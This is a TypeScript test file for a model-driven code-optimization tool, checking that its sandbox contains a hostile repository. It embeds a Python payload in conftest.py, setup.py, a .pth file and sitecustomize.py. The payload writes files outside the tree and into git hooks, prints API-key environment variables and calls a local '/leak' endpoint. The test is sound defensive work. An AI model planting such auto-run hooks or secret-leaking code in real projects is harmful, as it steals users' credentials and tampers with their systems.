import { execFileSync } from "node:child_process";
import { mkdtempSync, readdirSync, readFileSync, realpathSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, expect, it } from "vitest";
import { DoctorOutput, OptimizeOutput } from "../../../src/entry/output.ts";
import { snapshot } from "../../adapters/git/user-tree.ts";
import { type FakeServer, fakeServer } from "../../adapters/model/fake-server.ts";
import { environment } from "../../python/editable-layouts.ts";
import { python, repository, run, tiny } from "./program.ts";

/** Whether this machine has a rung that keeps code away from the rest of it. */
async function isContained(): Promise<boolean> {
  const { stdout } = await run(["doctor", "--python", python, "--json", "--full"], tmpdir());
  return DoctorOutput.parse(JSON.parse(stdout)).checks.some((it) => /^L[23] /.test(it.name) && it.ok);
}
const contained = await isContained();

let server: FakeServer | null = null;
afterEach(async () => {
  await server?.close();
  server = null;
});

/** What it does wherever it comes to run. */
const evil = (outside: string, root: string, port: string) => `
import os, pathlib, urllib.request
for place in (${JSON.stringify(outside)}, ${JSON.stringify(join(root, ".git/hooks"))}, ${JSON.stringify(root)}):
    try:
        (pathlib.Path(place) / "sprung").write_text("sprung")
    except OSError:
        pass
for name in ("ANTHROPIC_API_KEY", "SECRET_OF_THE_USER"):
    if os.environ.get(name):
        print("LEAK", os.environ[name])
try:
    urllib.request.urlopen("http://127.0.0.1:${port}/leak", timeout=2)
except OSError:
    pass
`;

it.skipIf(!contained)(
  "code of a hostile repository, and what a model has run, reaches nothing outside of its tree",
  async () => {
    const outside = realpathSync(mkdtempSync(join(tmpdir(), "outside-")));
    let turn = 0;
    let code = "";
    server = await fakeServer(() => {
      const micro = [{ name: "micro_benchmark", input: { setup: code, a: "1", b: "2" } }];
      const pass = [{ name: "pass", input: { why: "there is nothing that I could do here" } }];
      return { kind: "answer", calls: turn++ === 0 ? micro : pass };
    });
    const port = server.url.split(":").at(-1) ?? "";
    const root = repository(tiny);
    code = evil(outside, root, port);
    const hostile = repository({
      ...tiny,
      "conftest.py": code,
      "setup.py": code,
      "app.py": `${code}\n${tiny["app.py"]}`,
      "test_work.py": `${tiny["test_work.py"]}${code}`,
    });
    // its own environment too: a path file and a sitecustomize come to run wherever its Python starts as usual
    const packages = execFileSync(python, ["-c", "import pytest, os; print(os.path.dirname(os.path.dirname(pytest.__file__)))"]);
    environment({ executable: python, version: "" }, join(hostile, ".venv"), {
      "pytest.pth": `${packages}`,
      "evil.pth": "import evil_at_start\n",
      "evil_at_start.py": code,
      "sitecustomize.py": code,
    });
    const before = [snapshot(root), snapshot(hostile)];
    const env = { ANTHROPIC_API_KEY: "the-key-of-the-user", SECRET_OF_THE_USER: "precious" };
    const words = ["optimize", "app.py", "--pairs", "2", "--no-catalogue", "--json", "--full"];
    const model = ["--model", "anthropic:claude-sonnet-4-5", "--base-url", `${server.url}/v1`];
    const ended = await run([...words, ...model], hostile, env);
    expect(ended.exitCode, ended.stderr).toBe(0);
    const { records } = OptimizeOutput.parse(JSON.parse(ended.stdout));
    expect(turn).toBeGreaterThan(1);
    expect(readdirSync(outside)).toEqual([]);
    expect([snapshot(root), snapshot(hostile)]).toEqual(before);
    expect(server.requests.filter((it) => it.path.includes("leak"))).toEqual([]);
    const told = JSON.stringify(server.requests.map((it) => it.body)) + readFileSync(records.journal, "utf8");
    for (const secret of ["the-key-of-the-user", "precious"]) expect(told).not.toContain(`LEAK ${secret}`);
  },
  240_000,
);
